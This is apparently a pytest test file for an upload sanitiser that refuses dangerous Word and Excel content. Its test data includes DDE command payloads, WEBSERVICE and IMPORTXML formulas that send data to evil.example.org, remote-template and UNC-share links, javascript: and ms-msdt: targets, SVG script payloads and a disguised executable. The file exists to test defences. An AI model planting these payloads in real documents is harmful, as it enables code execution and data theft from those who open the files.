"""Word and Excel files: what starts a program, fetches from elsewhere or leads to odd places is refused, with the
reason; what people really write is taken."""

import io
import re

import pytest
from openpyxl import Workbook, load_workbook

from core.documents import office
from core.documents.sanitise import Unfit
from core.documents.uploads import prepare
from tests import files

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def taken(name, data):
    return prepare(name, io.BytesIO(data), len(data)).content


def refused(name, data):
    with pytest.raises(Unfit) as found:
        taken(name, data)
    return str(found.value)


def book(formula="", change=None, **parts):
    """An Excel file with a formula in its first cell, and further parts as they are written."""
    made = Workbook()
    made.active["A1"] = formula or "Seizures"
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out)
    return files.with_parts(out.getvalue(), **parts)


def text(body="", **parts):
    """A Word file with this in its body."""
    document = f'<?xml version="1.0"?><w:document {W}><w:body>{body}</w:body></w:document>'
    return files.docx(**{"word/document.xml": document, **parts})


def related(target, kind="hyperlink", more='TargetMode="External"', prefix=""):
    """The relations of a text."""
    name = f"{prefix}:Relationship" if prefix else "Relationship"
    space = f'xmlns:{prefix}="http://schemas.openxmlformats.org/package/2006/relationships"' if prefix else ""
    return {
        "word/_rels/document.xml.rels": f'<Relationships {space}><{name} Id="a" Type="{RELATIONS}/{kind}" '
        f'Target="{target}" {more}/></Relationships>'
    }


# --- Formulas ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A0",
        "=CMD|' /C powershell'!'A1'",
        "=cmd |'/c calc'!A0",
        "=MSEXCEL|'..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
        "=1+cmd|x!A0",
        '=DDE("cmd";"/c calc";"x")',
        '=WEBSERVICE("https://evil.example.org/?"&A2)',
        '=webservice ("https://evil.example.org")',
        '=RTD("prog",,"topic")',
        '=CALL("Kernel32","WinExec","JCJ","cmd",0)',
        '=REGISTER.ID("x","y")',
        '=EXEC("calc")',
        '=IMAGE("https://evil.example.org/x.png")',
        # A bar has no other use in a formula, whatever the program is wrapped in.
        "='cmd'|'/c calc'!A0",
        "=cmd|/c!A0",
        '=cmd|"/c"!A0',
        # A name of a sheet may hold a quotation mark, which opens no text.
        "='a\"b'!A1&cmd|'\"x'!A0",
        '=IMPORTXML("https://evil.example.org","//a")',
        '=_xlfn._xlws.PY("1")',
        "=INDIRECT(\"'\\\\evil\\[a]b'!A1\")",
    ],
)
def test_a_formula_that_asks_another_program_is_refused(formula):
    assert "formula" in refused("a.xlsx", book(formula))


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(B1:B9)",
        '=IF(A2="a|b","cmd|x",1)',
        '=HYPERLINK("https://cites.org/eng","CITES")',
        '=HYPERLINK("#Sheet1!A1","there")',
        "=VLOOKUP(A1,Sheet2!A:B,2,FALSE)",
        '=TEXT(A1,"0.0")&" | "&B1',
        "='North''s part'!A1",
        '=HYPERLINK("https://cites.org/?q="&A1,"CITES")',
        '=HYPERLINK("#"&A1&"!A1","there")',
    ],
)
def test_a_formula_that_people_write_is_taken(formula):
    kept = load_workbook(io.BytesIO(taken("a.xlsx", book(formula))))

    assert formula in [cell.value for row in kept.active.iter_rows() for cell in row]


@pytest.mark.parametrize(
    "target",
    ["javascript:alert(1)", "file:///C:/Windows/x.exe", "\\\\evil\\share", "ms-word:ofe|u|x", "data:text/html,x"],
)
def test_a_link_of_a_formula_or_a_cell_that_leads_to_odd_places_is_refused(target):
    def link(made):
        made.active["A2"].hyperlink = target

    assert "link" in refused("a.xlsx", book(f'=HYPERLINK("{target}","x")'))
    assert "link" in refused("a.xlsx", book(change=link))


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("java"&"script:alert(1)")',
        '=HYPERLINK(CONCAT("file",":///c:/x"),"x")',
        "=HYPERLINK(A1)",
        '=HYPERLINK(Links!C7,"x")',
    ],
)
def test_a_link_that_is_put_together_is_refused(formula):
    """What it leads to stands nowhere in the file: the refusal names the cell, and what to write instead."""
    said = refused("a.xlsx", book(formula))

    assert re.search(r"Cell A\d+ holds a link whose address is read from other cells", said)
    assert "Write the address itself into HYPERLINK" in said


def test_a_formula_in_another_encoding_or_with_references_is_read():
    sheet = '<?xml version="1.0" encoding="utf-16"?><worksheet><f>cmd&#124;\'/c calc\'!A0</f></worksheet>'

    assert "formula" in refused("a.xlsx", book(**{"xl/worksheets/sheet9.xml": sheet.encode("utf-16")}))


def test_a_name_or_a_rule_with_such_a_formula_is_refused():
    named = '<?xml version="1.0"?><workbook><definedName name="a">cmd|\'/c x\'!A0</definedName></workbook>'
    rule = "<worksheet><cfRule><formula>cmd|'/c x'!A0</formula></cfRule></worksheet>"

    assert "formula" in refused("a.xlsx", book(**{"xl/other.xml": named}))
    assert "formula" in refused("a.xlsx", book(**{"xl/worksheets/sheet9.xml": rule}))


# --- Parts, whatever they are called -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ('<x:externalLink xmlns:x="urn:x"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>', "DDE"),
        ("<externalLink><oleLink/></externalLink>", "DDE"),
        ("<workbook><externalReferences><externalReference/></externalReferences></workbook>", "elsewhere"),
    ],
)
def test_a_link_to_another_file_is_refused_whatever_its_part_is_called(content, words):
    assert words in refused("a.xlsx", book(**{"xl/harmless.xml": content}))


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml", "elsewhere"),
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", "elsewhere"),
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml", "elsewhere"),
        ("application/vnd.ms-excel.macrosheet+xml", "macros"),
        ("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "macros"),
        ("application/vnd.ms-office.vbaProject", "macros"),
        ("application/vnd.openxmlformats-officedocument.oleObject", "macros"),
        ("application/vnd.ms-office.webextension+xml", "macros"),
    ],
)
def test_a_part_is_what_its_type_says(kind, words):
    types = f'<?xml version="1.0"?><Types><Override PartName="/xl/a.xml" ContentType="{kind}"/></Types>'

    assert words in refused("a.xlsx", book(**{"[Content_Types].xml": types}))


@pytest.mark.parametrize(
    "kind", ["aFChunk", "attachedTemplate", "subDocument", "frame", "image", "oleObject", "externalLinkPath"]
)
@pytest.mark.parametrize("prefix", ["", "r"])
def test_what_is_fetched_on_opening_is_refused(kind, prefix):
    assert "elsewhere" in refused("a.docx", text(**related("https://evil.example.org/x", kind, prefix=prefix)))


def test_what_is_elsewhere_is_so_whether_the_file_says_so_or_not():
    assert "elsewhere" in refused("a.docx", text(**related("https://evil.example.org/t.dotm", "attachedTemplate", "")))
    assert "elsewhere" in refused("a.docx", text(**related("\\\\evil\\share\\t.dotm", "attachedTemplate", "")))


HIDDEN = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


@pytest.mark.parametrize("name", ["sheet2.foo", "sheet2.odttf", "sheet2"])
def test_a_part_is_looked_at_whatever_its_ending(name):
    types = f'<Types><Override PartName="/xl/{name}" ContentType="{HIDDEN}"/></Types>'
    parts = {"[Content_Types].xml": types, f"xl/{name}": "<worksheet><f>cmd|'/c x'!A0</f></worksheet>"}

    assert "inside" in refused("a.xlsx", book(**parts))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("word/a.hta", b"x"),
        ("word/a.lnk", b"x"),
        ("word/nested.zip", b"PK\x03\x04"),
        ("word/media/a.png", b"MZ\x90\x00"),
        ("word/media/a.svg", b"<svg onload='alert(1)'/>"),
        ("word/media/a.svg", b"<svg><script>alert(1)</script></svg>"),
        ("word/media/a.svg", b"<svg><foreignObject/></svg>"),
        ("word/embeddings/a.xlsx", files.with_parts(files.xlsx(), **{"xl/vbaProject.bin": b"x"})),
    ],
)
def test_a_document_holds_nothing_but_texts_and_pictures(name, content):
    assert "inside" in refused("a.docx", text(**{name: content}))


def test_a_workbook_within_a_text_is_looked_at():
    """The numbers of a chart in a text."""
    assert taken("a.docx", text(**{"word/embeddings/a.xlsx": files.xlsx()}))
    assert "formula" in refused("a.docx", text(**{"word/embeddings/a.xlsx": book("=cmd|'/c x'!A0")}))


def test_a_drawing_that_people_set_is_taken():
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/><image href="data:image/png;base64,aa"/></svg>'

    assert taken("a.docx", text(**{"word/media/a.svg": drawing, "word/media/b.png": files.png()}))


def test_what_hangs_behind_the_file_is_refused():
    assert "damaged" in refused("a.xlsx", files.xlsx() + b"<script>alert(1)</script>")


def test_a_file_of_very_many_elements_is_refused_before_it_is_looked_through(monkeypatch):
    """110 kB unpacked to 108 MB of empty elements, and held a processor for a minute."""
    monkeypatch.setattr(office, "MAX_MARKS", 10_000)

    assert "looked through" in refused("a.xlsx", book(**{"xl/a.xml": b"<a>" + b"<b/>" * 10_000 + b"</a>"}))
    # Workbooks within a text count together.
    inner = book(**{"xl/a.xml": b"<a>" + b"<b/>" * 4_000 + b"</a>"})
    assert "looked through" in refused("a.docx", text(**{f"word/embeddings/{n}.xlsx": inner for n in range(3)}))


# --- Fields and links of Word ------------------------------------------------------------------------


BEGIN, END = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def field(*pieces):
    """A field of Word, its code in so many pieces."""
    return BEGIN + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces) + END


@pytest.mark.parametrize(
    "body",
    [
        field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'),
        field("DD", "EAUTO cmd"),
        field(" d", "d", "e cmd "),
        field("&#68;&#68;E cmd"),
        field('IF 1 = 1 "a" "b" ') + field("DDE cmd"),
        '<w:fldSimple w:instr="DDE cmd &quot;/c calc&quot;"/>',
        field('LINK Excel.Sheet.8 "https://evil.example.org/x.xls"'),
        field('INCLUDETEXT "https://evil.example.org/x"'),
        field("MACROBUTTON run here"),
        "<w:p><w:instrText>DDE cmd</w:instrText></w:p>",
        field('INCLUDEPICTURE "https://evil.example.org/x.png" \\d'),
        field("QUOTE 68 68 69 32 99 109 100"),
        # A field within the quotation marks of another one.
        field('QUOTE "').replace(END, "") + field('DDEAUTO cmd "/k calc"') + field('"').replace(BEGIN, ""),
    ],
)
def test_a_field_that_asks_another_program_is_refused(body):
    assert "field" in refused("a.docx", text(body))


@pytest.mark.parametrize(
    "body",
    [
        field('TOC \\o "1-3" \\h \\z \\u'),
        field('HYPERLINK "https://cites.org/eng"'),
        field('HYPERLINK \\l "_Toc123"'),
        field('HYPERLINK "https://cites.org/eng" \\l "part:2" \\o "see: there"'),
        field("PAGE"),
        field('REF _Ref1 \\h "DDE"'),
        "<w:p><w:t>DDE is an old protocol; cmd|x is its form.</w:t></w:p>",
    ],
)
def test_a_field_that_people_write_is_taken(body):
    assert taken("a.docx", text(body))


BAD_TARGETS = [
    "javascript:alert(1)",
    "JavaScript:x",
    " javascript:x",
    "java&#10;script:x",
    "file:///etc/passwd",
    "data:text/html,x",
]
BAD_TARGETS += [
    "/\\evil/share",
    "..\\x.exe",
    "annex.lnk?a",
    "vbscript:x",
    "ms-msdt:/id",
    "search-ms:query=x",
    "\\\\evil\\share\\x",
    "//evil/share/x",
    "tel:112",
]


@pytest.mark.parametrize("target", BAD_TARGETS)
def test_a_link_that_leads_to_odd_places_is_refused_and_named(target):
    assert "link" in refused("a.docx", text(**related(target)))
    if not target.startswith(("/", "\\")):
        assert "link" in refused("a.docx", text(field(f'HYPERLINK "{target}"')))
        assert "link" in refused("a.docx", text(field(f'HYPERLINK \\o "see" "{target}"')))
        assert "link" in refused("a.docx", text(field(f"HYPERLINK \u201c{target}\u201d")))
    if target == "javascript:alert(1)":
        assert "link" in refused("a.docx", text(field(f"HYPERLINK {target}")))


@pytest.mark.parametrize(
    "target",
    ["https://cites.org/eng?a=b&amp;c=%20d", "http://www.asean.org", "mailto:a@example.org", "#there", "annex 1.docx"],
)
def test_a_link_that_people_set_is_taken(target):
    assert taken("a.docx", text(**related(target)))


def test_a_link_of_an_old_drawing_is_looked_at():
    drawing = '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape href="javascript:alert(1)"/></xml>'

    assert "link" in refused("a.docx", text(**{"word/a.vml": drawing}))


def test_an_ordinary_workbook_is_taken_as_it_came():
    def fill(made):
        made.active["A2"].hyperlink = "https://cites.org"
        made.create_sheet("Other")["A1"] = "=SUM(Sheet!B1:B2)"

    data = book(change=fill)

    assert taken("a.xlsx", data) == data
